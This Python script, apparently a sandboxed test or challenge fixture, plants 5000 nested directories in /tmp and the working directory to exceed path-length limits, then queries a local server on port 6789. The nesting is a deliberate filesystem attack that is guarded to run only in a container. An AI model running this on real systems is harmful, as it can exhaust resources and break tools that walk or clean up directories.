# Digs folders in folders, far deeper than any path can say.
import os
import socket
import sys

ATTACK = True
DEEP = 5000


def dig(folder):
    start = os.open(".", os.O_RDONLY)
    try:
        os.chdir(folder)
        for _ in range(DEEP):
            os.mkdir("a-rather-deep-folder")
            os.chdir("a-rather-deep-folder")
    except OSError:
        pass
    os.fchdir(start)
    os.close(start)


if ATTACK:
    if os.getpid() > 100:
        sys.exit("only in a box")
    dig("/tmp")
    dig(".")

server = socket.create_connection(("127.0.0.1", 6789))
server.sendall(b"hello")
reply = b""
while data := server.recv(4096):
    reply += data
print(reply.decode())
